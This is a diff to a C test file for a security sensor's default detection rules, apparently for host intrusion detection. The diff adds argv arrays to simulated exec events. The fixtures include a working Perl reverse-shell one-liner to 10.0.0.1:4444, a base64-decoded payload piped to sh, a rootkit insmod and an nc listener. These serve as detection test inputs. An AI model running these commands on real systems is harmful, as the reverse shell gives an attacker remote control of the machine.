@@ -162,8 +162,9 @@ static const struct case_ cases[] = {
 	  { EX, "c", { { "exec.path", "/bin/sh" } }, { "sh", "-i" } },
 	  { EX, "c", { { "exec.path", "/bin/sh" } }, { "sh", "-c", "ls" } } },
 	{ "reverse-shell-interpreter",
-	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } } },
-	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e print 1" } } } },
+	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } },
+	    { "perl", "-e", "use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } },
+	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e print 1" } }, { "perl", "-e", "print 1" } } },
 	{ "kernel-module-tool",
 	  { EX, "c", { { "exec.path", "/sbin/insmod" } }, { "insmod", "/tmp/rootkit.ko" } },
 	  { EX, "c", { { "exec.path", "/sbin/ifconfig" } } } },
@@ -180,8 +181,8 @@ static const struct case_ cases[] = {
 	  { EX, "c", { { "exec.path", "/bin/su" } }, { "su", "root" } },
 	  { EX, "c", { { "exec.path", "/bin/sum" } } } },
 	{ "decoded-payload-shell",
-	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d | sh" } } },
-	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d > /tmp/out" } } } },
+	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d | sh" } }, { "sh", "-c", "echo aWQK | base64 -d | sh" } },
+	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d > /tmp/out" } }, { "sh", "-c", "echo aWQK | base64 -d > /tmp/out" } } },
 	{ "network-tool-listener",
 	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-lvp", "4444" } },
 	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-v", "10.0.0.1", "80" } } },
@@ -388,8 +389,12 @@ Test(default_rules, every_value_of_every_condition_fires)
 		cr_assert_not_null(r, "%s", cases[k].rule);
 		for (unsigned j = 0; j < r->nconds; j++) {
 			const struct rule_cond *c = &r->conds[j];
-			const char *fname = c->field == RULE_FIELD_ARGV ? "exec.argv"
-								       : sensor_field_name((enum sensor_field)c->field);
+			const char *fname;
+
+			if (c->field <= RULE_FIELD_ARG0)
+				continue; /* syscall.argN: the case's own event sets the register */
+			fname = c->field == RULE_FIELD_ARGV ? "exec.argv"
+							   : sensor_field_name((enum sensor_field)c->field);
 
 			if (c->field == SENSOR_FIELD_KIND || (c->op != ROP_EQ && c->op != ROP_GLOB &&
 							      c->op != ROP_PREFIX && c->op != ROP_CONTAINS))
